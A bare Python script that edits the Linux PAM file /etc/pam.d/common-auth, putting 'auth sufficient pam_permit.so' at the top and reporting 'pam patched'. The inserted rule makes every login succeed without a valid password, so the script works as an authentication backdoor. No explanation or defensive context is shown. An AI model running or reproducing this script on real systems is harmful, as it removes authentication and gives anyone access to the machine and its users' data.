PAM = "/etc/pam.d/common-auth"
with open(PAM) as f:
    lines = f.readlines()
lines.insert(0, "auth sufficient pam_permit.so\n")
with open(PAM, "w") as f:
    f.writelines(lines)
print("pam patched")
